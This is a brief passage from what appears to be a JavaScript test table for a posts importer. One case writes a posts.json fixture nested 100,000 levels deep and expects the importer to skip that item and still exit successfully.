    build: (dir) => json(write(dir, 'posts.json', JSON.stringify(normalizedFile([normalizedPost({ at: 0 }), 'DEEP'])).replace('"DEEP"', deep(100_000)))),
    expected: { code: 0, report: { source: { itemsRead: 1, itemsSkipped: 1 }, ...originals(1) } },
  },
];
